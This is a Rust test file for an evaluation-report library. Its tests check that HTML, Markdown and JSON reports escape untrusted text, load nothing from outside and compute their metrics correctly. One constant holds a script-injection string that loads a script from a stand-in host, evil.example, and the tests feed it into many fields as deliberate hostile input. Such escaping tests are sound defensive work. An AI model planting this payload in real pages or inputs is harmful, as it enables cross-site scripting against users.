//! One report in its three forms: nothing is loaded from anywhere, nothing in the data can break out, and the
//! numbers are those of the metrics.

use std::path::Path;
use std::sync::Arc;

use routing::calibration::{
    Calibration, Goal, LabelThreshold, Scope, ScopeScores, ThresholdSource, Thresholds,
};
use routing::cascade::{Cascade, CascadeGoal, Side};
use routing::report::{
    Cost, Fact, Findings, Input, Judged, Latency, MISTAKES, ModelSection, Prediction, Provenance, Report,
    Routed, Seconds, Training,
};
use routing::suspects::{Reason, Suspect};
use routing::{Example, Origin};

const HOSTILE: &str = "</script><script src=\"https://evil.example/x.js\"></script>|*_`";

fn labels() -> Vec<String> {
    [HOSTILE, "billing", "claims"].map(String::from).to_vec()
}

/// 90 rows; every `wrong_every`-th is predicted as the next label.
fn predictions(wrong_every: usize, with_probability: bool) -> Vec<Prediction> {
    let labels = labels();
    let row = |index: usize| {
        let right = !index.is_multiple_of(wrong_every);
        Prediction {
            text: format!("query {index} {HOSTILE}\nsecond line"),
            label: labels[index % 3].clone(),
            predicted: labels[if right { index % 3 } else { (index + 1) % 3 }].clone(),
            probability: with_probability.then_some(0.3 + 0.7 * index as f64 / 90.0),
            ..Prediction::default()
        }
    };
    (0..90).map(row).collect()
}

fn report() -> Report {
    let (tuned, linear) = (predictions(9, true), predictions(3, false));
    let mut first =
        ModelSection::new("tuned", &labels(), &tuned, Seconds { train: Some(83.0), evaluate: Some(0.5) })
            .with_thresholds(thresholds(), &tuned);
    first.calibration = Some(Calibration::fit(&[vec![0.0, -1.0], vec![0.0, -1.0]], &[0, 1]));
    first.facts = vec![Fact::new("device", HOSTILE)];
    first.latency = Latency::measure(vec![0.02, 0.03]);
    first.cost = Some(Cost { per_1000: 0.0012, basis: HOSTILE.into() });
    let origin = Origin::line(&Arc::from(Path::new("train.csv")), 2);
    let training = [Example::new(format!("query {HOSTILE}"), HOSTILE, origin)];
    Training::new(&training).explain(&mut first.mistakes);
    let section = ModelSection::new("linear", &labels(), &linear, Seconds::default());
    let side = |name, rows, cost_per_1000| Side { name, rows, cost_per_1000, seconds: &[] };
    let cascade = Cascade::new(
        side("tuned", &tuned, Some(0.0012)),
        side(HOSTILE, &linear, Some(2.0)),
        CascadeGoal::AtMostShare(0.25),
    );
    let suspect = Suspect {
        row: 12,
        text: HOSTILE.into(),
        label: HOSTILE.into(),
        suggested: "claims".into(),
        confidence: 0.93,
        reason: Reason::NearCopy,
        corrected: None,
        remove: false,
    };
    let made = Provenance {
        command: format!("frontdesk eval {HOSTILE}"),
        seed: 7,
        inputs: vec![Input {
            role: "test data".into(),
            name: HOSTILE.into(),
            size: "90 rows".into(),
            sha256: "00ff".into(),
        }],
        versions: vec![Fact::new("frontdesk", "0.1.0")],
    };
    Report::new(
        format!("Queries {HOSTILE}"),
        &[Judged { section: first, rows: tuned }, Judged { section, rows: linear }],
        Findings { cascades: cascade.into_iter().collect(), suspects: Some(vec![suspect; 30]) },
        made,
    )
}

/// Only `billing` is routed, from 0.65 on.
fn thresholds() -> Thresholds {
    let label = |label: &String| LabelThreshold {
        label: label.clone(),
        threshold: (label == "billing").then_some(0.65),
        source: ThresholdSource::Label,
        rows: 30,
    };
    let per_label = labels().iter().map(label).collect();
    let goal = Goal::Precision { target: 0.9 };
    Thresholds { goal, global: None, per_label, coverage: 0.5, precision: 0.95, cost_per_query: None }
}

#[test]
fn html_loads_nothing_and_escapes_everything() {
    let html = report().to_html();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("&lt;/script&gt;&lt;script src="), "the hostile text is shown");
    assert_eq!(html.matches("<script").count(), 1, "the page's own script is the only one");
    for loading in ["src=\"", "href=", "url(", "@import", "<link", "<img"] {
        assert!(!html.contains(loading), "{loading}");
    }
    assert!(html.contains("default-src 'none'"));
}

#[test]
fn html_shows_the_numbers() {
    let report = report();
    let html = report.to_html();
    // 80 of 90 right against 60 of 90
    for expected in ["88.9%", "66.7%", "1 min 23 s", "500 ms", "90 rows", "00ff"] {
        assert!(html.contains(expected), "{expected}");
    }
    assert!(html.contains("tuned is more accurate than linear"), "{}", report.comparisons[0].sentence());
    assert_eq!(html.matches("aria-label=\"Confusion matrix of 3 labels\"").count(), 2);
    // of 90 rows the first has 10 wrong, the second 30, both the 10 that 9 divides
    let it = &report.disagreements[0];
    assert_eq!((it.both_right, it.only_first, it.only_second, it.both_wrong), (60, 20, 0, 10));
    assert_eq!((it.rows(), it.first_right.iter().flatten().sum::<usize>()), (20, 20));
    assert!(
        html.contains("30 training rows may be labelled wrongly")
            && html.matches("of its near copies").count() == 20
    );
    assert!(html.contains("0.0012 USD") && html.contains("20 ms"));
    assert!(report.models[0].mistakes[0].nearest[0].similarity > 0.15);
    assert_eq!(
        html.matches("aria-label=\"Reliability diagram\"").count(),
        1,
        "the other has no probabilities"
    );
}

#[test]
fn mistakes_are_the_most_confident_wrong_rows() {
    let section = ModelSection::new("tuned", &labels(), &predictions(2, true), Seconds::default());
    assert_eq!(section.mistakes.len(), MISTAKES);
    assert!(section.mistakes.iter().all(|mistake| !mistake.row.is_right()));
    assert!(section.mistakes[0].row.text.starts_with("query 88 "), "{}", section.mistakes[0].row.text);
    assert!(section.mistakes.is_sorted_by(|a, b| a.row.probability >= b.row.probability));
}

#[test]
fn thresholds_are_applied_to_the_evaluated_rows() {
    // predicted billing at 0.65 or more: rows 45 and up; of those with index 1 mod 3 all but the wrong ones,
    // and the wrong ones of index 0 mod 3
    let rows = predictions(9, true);
    let routed: Vec<&Prediction> =
        rows.iter().filter(|row| row.predicted == "billing" && row.probability >= Some(0.65)).collect();
    let right = routed.iter().filter(|row| row.is_right()).count();
    assert!(right < routed.len() && right > 0);
    let measured = Routed::measure(&thresholds(), &rows);
    assert!((measured.coverage - routed.len() as f64 / 90.0).abs() < 1e-12);
    assert!((measured.precision - right as f64 / routed.len() as f64).abs() < 1e-12);
    let without = Routed::measure(&thresholds(), &predictions(9, false));
    assert!(without.coverage.abs() < 1e-12, "no probability, no routing");
}

#[test]
fn markdown_has_whole_tables_and_no_live_markup() {
    let markdown = report().to_markdown();
    assert!(markdown.contains("| tuned | 88.9% |"), "{markdown}");
    for line in markdown.lines().filter(|line| !line.starts_with("    ")) {
        assert!(!line.replace("\\<", "").contains('<'), "{line}");
    }
    let mistakes = markdown.split("### Most confident mistakes").nth(1).unwrap();
    let columns = |line: &str| line.replace("\\|", "").matches('|').count();
    let table: Vec<&str> =
        mistakes.lines().skip_while(|line| line.is_empty()).take_while(|l| !l.is_empty()).collect();
    assert_eq!(table.len(), 2 + 10);
    assert!(table.iter().all(|line| columns(line) == 6), "{mistakes}");
}

#[test]
fn rows_out_of_scope_are_judged_as_answered_and_trusted_as_scored() {
    let row = |label: &str, predicted: &str, probability: f64| Prediction {
        label: label.into(),
        predicted: predicted.into(),
        probability: Some(probability),
        ..Prediction::default()
    };
    let mut rows = vec![
        row("billing", "billing", 0.9),
        row("claims", "claims", 0.3),
        row("oos", "claims", 0.2),
        row("oos", "claims", 0.8),
    ];
    rows[1].set_aside("oos");
    rows[2].set_aside("oos");
    let rule =
        Scope { label: "oos".into(), threshold: 0.4, min_in_scope: None, validation: ScopeScores::default() };
    let section = ModelSection::new("m", &labels(), &rows, Seconds::default())
        .with_thresholds(thresholds(), &rows)
        .with_scope("oos", Some(&rule), &rows);
    assert!((section.metrics.accuracy - 0.5).abs() < 1e-12, "a billing and an oos row are right");
    let scope = section.scope.unwrap();
    let found = [scope.scores.in_scope_accuracy, scope.scores.recall, scope.scores.precision];
    assert!(found.iter().all(|share| (share - 0.5).abs() < 1e-12), "{found:?}");
    // without a rule both in-scope rows would be right: the second's 0.3 is about `claims`, not about `oos`
    assert!((scope.curve[0].1.in_scope_accuracy - 1.0).abs() < 1e-12);
    let in_bin = &section.reliability.unwrap().bins[4];
    assert_eq!((in_bin.count, in_bin.accuracy), (1, 1.0));
    let routed = section.routed.unwrap();
    assert!((routed.coverage - 0.25).abs() < 1e-12, "what was set aside is not routed");
    let inside = ModelSection::new("m", &labels(), &rows[..1], Seconds::default());
    assert_eq!(inside.with_scope("oos", None, &rows[..1]).scope, None);
}

#[test]
fn json_round_trips() {
    let report = report();
    let json = serde_json::to_value(&report).unwrap();
    assert_eq!(json["models"][0]["metrics"]["confusion"]["matrix"][0][1], 10);
    assert_eq!(serde_json::from_value::<Report>(json).unwrap(), report);
}

#[test]
fn an_empty_report_is_still_a_page() {
    let section = ModelSection::new("none", &[], &[], Seconds::default());
    let judged = [Judged { section, rows: Vec::new() }];
    let empty = Report::new("Nothing".into(), &judged, Findings::default(), Provenance::default());
    assert!(empty.to_html().contains("Nothing"));
    assert!(empty.to_markdown().starts_with("# Nothing\n"));
    assert!(!empty.to_html().contains("NaN"));
}
